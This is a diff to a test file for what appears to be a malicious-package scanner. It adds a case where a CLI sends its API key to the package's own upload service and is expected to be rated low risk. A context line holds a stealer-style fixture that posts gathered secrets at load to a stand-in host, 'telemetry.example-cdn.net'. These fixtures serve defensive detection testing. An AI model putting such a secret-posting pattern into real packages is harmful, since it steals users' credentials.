@@ -414,6 +414,16 @@ module.exports = { Keypair };
     expect(tsc.ids).toContain('exfiltration/flow');
   });
 
+  it("a bin handing its API key to the package's own uploader runs when the user runs the command, not at load (@newrelic/publish-sourcemap)", () => {
+    const files = {
+      'index.js': `const request = require('superagent');\nmodule.exports = function publishSourcemap(opts, cb) {\n  request.post('https://sourcemaps.service.example-apm.com/v1').send({ apiKey: opts.apiKey }).end(cb);\n};\n`,
+      'scripts/publish-cli.js': `#!/usr/bin/env node\nconst publishSourcemap = require('../index.js');\nconst options = { apiKey: process.env.ACME_API_KEY };\npublishSourcemap(options, () => {});\n`,
+    };
+    const cli = scan(files, { main: 'index.js', bin: { 'publish-sourcemap': './scripts/publish-cli.js' } });
+    expect(cli.findings.find((f) => f.detector === 'exfiltration')?.evidence).toMatchObject({ reach: 'entry-function' });
+    expect(['none', 'low']).toContain(cli.level);
+  });
+
   it('secrets a collector module returns, posted by the entry at load, are a flow of the entry (a stealer split into collect.js and index.js)', () => {
     const r = scan({
       'index.js': `const { gather } = require('./lib/collect');\nconst https = require('https');\nconst body = JSON.stringify(gather());\nconst req = https.request({ hostname: 'telemetry.example-cdn.net', path: '/c', method: 'POST' });\nreq.end(body);\n`,
